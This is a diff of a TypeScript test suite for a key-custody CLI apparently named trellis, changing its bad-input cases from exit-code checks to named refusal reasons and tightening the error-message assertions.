           oneCharWrong(fs.readFileSync(m.rootIdentityFile, 'utf8').match(/AGE-SECRET-KEY-\w+/)![0]),
         ),
       }),
-      code: 2,
+      reason: 'bad-identity',
       file: 'TRELLIS_ROOT_IDENTITY_FILE',
       says: /identity 1 of 1 is damaged/,
     },
@@ -1249,9 +1263,8 @@ const CASES: [string, Case][] = [
         TRELLIS_CI_IDENTITY_FILE: '',
         TRELLIS_CI_IDENTITY: oneCharWrong(fs.readFileSync(m.ciIdentityFile, 'utf8').match(/AGE-SECRET-KEY-\w+/)![0]),
       }),
-      code: 2,
+      reason: 'bad-identity',
       file: 'TRELLIS_CI_IDENTITY',
-      says: /is damaged/,
     },
   ],
   [
@@ -1269,9 +1282,8 @@ const CASES: [string, Case][] = [
             .slice(0, -5),
         ),
       }),
-      code: 2,
+      reason: 'bad-identity',
       file: 'TRELLIS_CI_IDENTITY_FILE',
-      says: /is damaged/,
     },
   ],
   [
@@ -1280,7 +1292,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renewUsEast,
       env: (_, s) => ({ TRELLIS_CI_IDENTITY_FILE: s }),
-      code: 2,
+      reason: 'bad-identity',
       file: 'TRELLIS_CI_IDENTITY_FILE',
       says: /cannot read the identity file/,
     },
@@ -1291,7 +1303,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renewUsEast,
       env: (m) => ({ TRELLIS_CI_IDENTITY_FILE: m.path('bundles/us-east-1/intermediate.key.age') }),
-      code: 2,
+      reason: 'bad-identity',
       file: 'TRELLIS_CI_IDENTITY_FILE',
       says: /does not hold age identities/,
     },
@@ -1301,7 +1313,7 @@ const CASES: [string, Case][] = [
     {
       cli: 'ci',
       args: ['renew', '--force', '--now', T0, '--now-ahead', '--out', 'SCRATCH_FILE'],
-      code: 2,
+      reason: 'usage',
       file: 'SCRATCH_FILE',
       says: /--out/,
     },
@@ -1312,14 +1324,20 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: ['status', '--store', '/nonexistent/trellis-store'],
       bare: true,
-      code: 2,
+      reason: 'no-store',
       file: '/nonexistent/trellis-store',
       says: /--store/,
     },
   ],
   [
     '--store given twice is refused as usage',
-    { cli: 'ci', args: ['status', '--store', 'SCRATCH_FILE'], code: 2, file: '--store', says: /more than once/ },
+    {
+      cli: 'ci',
+      args: ['status', '--store', 'SCRATCH_FILE'],
+      reason: 'usage',
+      file: '--store',
+      says: /more than once/,
+    },
   ],
   [
     'trellis-root --store at a file is refused',
@@ -1327,7 +1345,7 @@ const CASES: [string, Case][] = [
       cli: 'root',
       args: ['status', '--store', 'SCRATCH_FILE'],
       bare: true,
-      code: 2,
+      reason: 'no-store',
       file: 'SCRATCH_FILE',
       says: /--store/,
     },
@@ -1390,7 +1408,7 @@ async function runCase(c: Case): Promise<void> {
       ? await m.ci(args, env)
       : await m.root(args, env);
   const all = `${r.stdout}\n${r.stderr}`;
-  expect(r.code, all).toBe(c.code);
+  expectRefused(r, c.reason);
   const file = resolveArgs([c.file], scratch)[0]!;
   expect(r.stderr, 'names the file').toContain(file);
   if (c.field)
@@ -1411,8 +1429,13 @@ describe.concurrent('the bad-input corpus', () => {
 
 describe('init with bad input creates nothing', () => {
   it.each([
-    ['an upper-case mesh name', ['--mesh', 'Prod', '--trust-domain', 'mesh.example'], /mesh/],
-    ['a trust domain with an empty label', ['--mesh', 'prod', '--trust-domain', 'mesh..example'], /trustDomain/],
+    ['an upper-case mesh name', ['--mesh', 'Prod', '--trust-domain', 'mesh.example'], /mesh: /, 'bad-config'],
+    [
+      'a trust domain with an empty label',
+      ['--mesh', 'prod', '--trust-domain', 'mesh..example'],
+      /trustDomain: /,
+      'bad-config',
+    ],
     [
       'a CI recipient that is an identity',
       [
@@ -1423,20 +1446,22 @@ describe('init with bad input creates nothing', () => {
         '--ci-recipient',
         'AGE-SECRET-KEY-1QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L',
       ],
-      /--ci-recipient/,
+      /--ci-recipient: /,
+      'bad-recipient',
     ],
     [
       'a --now on February 30th',
       ['--mesh', 'prod', '--trust-domain', 'mesh.example', '--now', '2026-02-30T00:00:00Z'],
-      /--now/,
+      /--now /,
+      'bad-time',
     ],
-  ])('%s', async (_, args, names) => {
+  ] as [string, string[], RegExp, Reason][])('%s', async (_, args, names, reason) => {
     const dir = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'trellis-init-')), 'store');
     const withCi = args.includes('--ci-recipient') ? args : [...args, '--ci-recipient', stranger.recipient];
     const r = await trellisRoot(['init', '--store', dir, ...withCi]);
-    expect(r.code, r.stderr).toBe(2);
-    expect(r.stderr).toMatch(names);
-    expect(r.stderr).toMatch(/→ \S/);
+    expectRefused(r, reason);
+    expect(r.stderr, 'names the flag or field').toMatch(names);
+    expect(r.stderr, 'says what to do').toMatch(/→ \S/);
     expect(`${r.stdout}${r.stderr}`).not.toMatch(/AGE-SECRET-KEY|\n\s+at \S|internal error/);
     expect(fs.existsSync(dir)).toBe(false);
   });
@@ -1461,7 +1486,8 @@ describe('the workstation clock set back (faketime, no --now)', () => {
       '--store',
       m.dir,
     ]);
-    expect(r.code, r.stderr).toBe(3);
+    expectRefused(r, 'custody-clock-behind');
+    // Both times named: the clock's and the ledger's (the case), and the hint.
     expect(r.stderr).toMatch(
       new RegExp(
         String.raw`bundles\/root\/ledger.jsonl: the time ${at(T0, -30 * DAY).slice(0, 11)}.* is earlier than ` +
@@ -1476,7 +1502,8 @@ describe('the workstation clock set back (faketime, no --now)', () => {
 describe('trellis-ci outside any store', () => {
   it('says where it looked', async () => {
     const r = await trellisCi(['verify'], { cwd: os.tmpdir() });
-    expect(r.code).toBe(2);
-    expect(r.stderr).toMatch(/no trellis.yaml in .*→ run inside the store, or pass --store DIR/s);
+    expectRefused(r, 'no-store');
+    expect(r.stderr, 'where it looked').toContain(os.tmpdir());
+    expect(r.stderr, 'the hint').toMatch(/→ run inside the store, or pass --store DIR/);
   });
 });
